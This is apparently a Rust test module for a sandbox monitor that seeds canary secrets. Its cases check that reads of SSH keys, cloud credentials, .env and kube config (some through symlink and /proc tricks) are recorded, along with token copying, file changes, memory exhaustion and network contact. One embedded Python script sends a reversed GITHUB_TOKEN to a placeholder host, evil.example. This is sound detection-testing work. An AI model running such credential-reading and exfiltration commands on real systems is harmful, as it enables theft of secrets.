//! What is noticed of a command, case by case.

use super::cases::Case;
use super::runs::{Outcome, limited, plan, run};
use evidence::conduct::{Act, Change, Limits, Rung, Touch, Via};
use sandbox::canary::{Search, make, seed};
use std::path::Path;

pub(crate) const CASES: &[(&str, Case)] = &[
    (
        "a_canary_is_known_by_every_name",
        a_canary_is_known_by_every_name,
    ),
    (
        "a_canary_that_is_passed_on_is_told",
        a_canary_that_is_passed_on_is_told,
    ),
    (
        "what_is_done_to_files_is_told",
        what_is_done_to_files_is_told,
    ),
    (
        "what_everybody_does_says_nothing",
        what_everybody_does_says_nothing,
    ),
    ("too_much_memory_ends_it", too_much_memory_ends_it),
    ("what_it_uses_is_measured", what_it_uses_is_measured),
    (
        "what_it_says_to_the_network_is_told",
        what_it_says_to_the_network_is_told,
    ),
];

/// Runs a script with canaries, and sees to it that no value of theirs is on record.
fn baited(rung: Rung, script: &str) -> Outcome {
    let mut plan = plan(rung, script);
    plan.canaries = make(&seed().expect("random numbers"));
    let search = Search::new(&plan.canaries);
    let outcome = run(plan);
    let record = serde_json::to_string(&outcome.conduct.deeds).expect("JSON");
    assert_eq!(search.find(record.as_bytes()), [], "{record}");
    outcome
}

fn touched(outcome: &Outcome, id: &str, how: &Touch, via: Via) -> bool {
    outcome.conduct.deeds.iter().any(|deed| {
        deed.via == via
            && matches!(&deed.act, Act::Canary { id: it, how: seen } if it == id && seen == how)
    })
}

fn agree(outcome: &Outcome) {
    let odd = outcome
        .conduct
        .deeds
        .iter()
        .find(|deed| matches!(deed.act, Act::Disagree { .. }));
    assert_eq!(odd, None, "{:#?}", outcome.conduct.deeds);
}

fn a_canary_is_known_by_every_name(rung: Rung) {
    let script = "cat ~/.ssh/id_rsa; ln -s ~/.aws/credentials ~/l; cat ~/l; cat /proc/self/root$HOME/.env; cd ~/.kube; cat config; rm ~/.npmrc";
    let outcome = baited(rung, script);
    for id in ["ssh-key", "cloud-credentials", "env-file", "kube-config"] {
        for (how, via) in [
            (Touch::Opened, Via::Call),
            (Touch::Opened, Via::Watch),
            (Touch::Read, Via::Watch),
        ] {
            assert!(
                touched(&outcome, id, &how, via),
                "{id} {how:?} {via:?}: {}",
                outcome.stderr
            );
        }
    }
    for via in [Via::Call, Via::Watch] {
        assert!(touched(&outcome, "npm-token", &Touch::Changed, via));
    }
    assert!(!outcome.did(|act| matches!(act, Act::Canary { id, .. } if id == "wallet")));
    agree(&outcome);
}

fn a_canary_that_is_passed_on_is_told(rung: Rung) {
    let outcome = baited(
        rung,
        "echo $GITHUB_TOKEN > $TMPDIR/copy; /bin/echo $NPM_TOKEN",
    );
    let stored = |act: &Act| matches!(act, Act::Canary { id, how: Touch::Stored { path, encoding } } if id == "github-token" && path.ends_with("/copy") && encoding == "plain");
    assert!(outcome.did(stored));
    let passed = |act: &Act| matches!(act, Act::Canary { id, how: Touch::Passed { program, .. } } if id == "npm-variable" && program.ends_with("/echo"));
    assert!(outcome.did(passed));
    let ran = |act: &Act| matches!(act, Act::Run { arguments, .. } if arguments == "npm_«canary:npm-variable»");
    assert!(outcome.did(ran), "{:#?}", outcome.conduct.deeds);
}

fn what_is_done_to_files_is_told(rung: Rung) {
    let script = "cd $TMPDIR; mkdir d; echo 1 > d/f; mv d e; echo 2 > g; rm g; echo 3 > h";
    let outcome = run(plan(rung, script));
    let written = |end: &str| {
        outcome.did(|act| matches!(act, Act::Write { path, .. } if path.ends_with(end)))
    };
    assert!(written("/d") && written("/d/f") && written("/e") && written("/g") && written("/h"));
    let deleted = |end: &str| {
        outcome.did(|act| matches!(act, Act::Delete { path, .. } if path.ends_with(end)))
    };
    assert!(deleted("/d") && deleted("/g"));
    let created = |end: &str| {
        outcome.did(|act| matches!(act, Act::Changed { path, how: Change::Created, .. } if path.ends_with(end)))
    };
    assert!(created("/e/f") && created("/h") && !created("/g") && !created("/d/f"));
    assert_eq!(outcome.conduct.usage.written, Some(4));
    agree(&outcome);
}

fn what_everybody_does_says_nothing(rung: Rung) {
    let outcome = baited(
        rung,
        "read line < /etc/passwd; ls / > /dev/null; cat /proc/self/maps > /dev/null; exec true",
    );
    let said: Vec<_> = outcome
        .conduct
        .deeds
        .iter()
        .filter(|deed| !matches!(deed.act, Act::Run { .. }))
        .collect();
    assert!(said.is_empty(), "{said:#?}");
    assert!(outcome.conduct.usage.opened > 5);
}

fn too_much_memory_ends_it(rung: Rung) {
    let limits = Limits {
        memory: 64 << 20,
        ..sandbox::LIMITS
    };
    let outcome = run(limited(
        rung,
        "x=aaaaaaaa; while :; do x=$x$x; done",
        limits,
    ));
    let limit = |act: &Act| matches!(act, Act::Limit { what, ended: true } if what == "memory");
    assert!(
        outcome.did(limit),
        "{:?} {:#?}",
        outcome.ended,
        outcome.conduct
    );
    assert_ne!(outcome.ended.code, Some(0));
}

fn what_it_uses_is_measured(rung: Rung) {
    let usage = run(plan(rung, "sleep 0.3 & sleep 0.3 & wait"))
        .conduct
        .usage;
    assert!(usage.peak_processes >= Some(3), "{usage:?}");
    assert!(usage.peak_memory > Some(100_000), "{usage:?}");
    assert!(
        usage.user_ms.is_some() && usage.system_ms.is_some(),
        "{usage:?}"
    );
}

const SPEAKS: &str = r"
import os, socket
def tcp(family, to):
    s = socket.socket(family)
    s.settimeout(3)
    s.connect(to)
    s.sendall(b'GET /' + os.environ['GITHUB_TOKEN'][::-1].encode() + b' HTTP/1.1\r\nHost: evil.example\r\n\r\n')
    s.recv(100)
tcp(socket.AF_INET, ('192.0.2.7', 8080))
socket.getaddrinfo('name.example', 80)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.sendto(b'hello', ('192.0.2.8', 9999))
try:
    socket.socket(socket.AF_UNIX).connect('/run/no-such.sock')
except OSError:
    pass
";

fn what_it_says_to_the_network_is_told(rung: Rung) {
    if !Path::new("/usr/bin/python3").exists() {
        println!("skipped: no /usr/bin/python3");
        return;
    }
    let outcome = baited(rung, &format!("/usr/bin/python3 -c \"{SPEAKS}\""));
    let met = |ip: &str, at: u16, by: &str| {
        outcome.did(|act| {
            matches!(act, Act::Contact { address, port, transport, passed: false, .. } if address == ip && *port == at && transport == by)
        })
    };
    let all = &outcome.conduct.deeds;
    assert!(
        met("192.0.2.7", 8080, "tcp") && met("192.0.2.8", 9999, "udp"),
        "{} {all:#?}",
        outcome.stderr
    );
    assert!(outcome.did(|act| matches!(act, Act::Resolve { name, .. } if name == "name.example")));
    assert!(outcome.did(|act| matches!(act, Act::Socket { path } if path == "/run/no-such.sock")));
    let sent = Touch::Sent {
        to: "192.0.2.7:8080".to_owned(),
        encoding: "reversed".to_owned(),
    };
    assert!(
        touched(&outcome, "github-token", &sent, Via::Sink),
        "{all:#?}"
    );
    agree(&outcome);
}
